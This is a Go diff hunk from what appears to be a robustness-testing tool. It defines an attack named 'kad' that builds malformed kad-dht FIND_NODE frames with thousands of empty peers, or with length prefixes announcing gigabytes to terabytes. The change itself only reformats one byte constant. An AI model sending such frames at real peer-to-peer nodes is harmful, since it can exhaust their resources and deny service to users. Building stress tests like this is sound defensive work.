@@ -14,7 +14,7 @@ var attackKad = attack{
 	name: "kad", does: "frames of kad-dht that announce gigabytes, or are full of empty peers",
 	make: func(ctx context.Context, t *target) error {
 		peers := func(size int) []byte { // FIND_NODE, a key, and then empty peers
-			raw := append([]byte{1<<3 | 0, 4, 2<<3 | 2, 4, 'k', 'e', 'y', 's'}, bytes.Repeat([]byte{8<<3 | 2, 0}, size/2)...)
+			raw := append([]byte{1 << 3, 4, 2<<3 | 2, 4, 'k', 'e', 'y', 's'}, bytes.Repeat([]byte{8<<3 | 2, 0}, size/2)...)
 			return append(binary.AppendUvarint(nil, uint64(len(raw))), raw...)
 		}
 		frames := [][]byte{peers(1000), peers(16000), peers(4 << 20), binary.AppendUvarint(nil, 4<<20), binary.AppendUvarint(nil, 1<<40)}
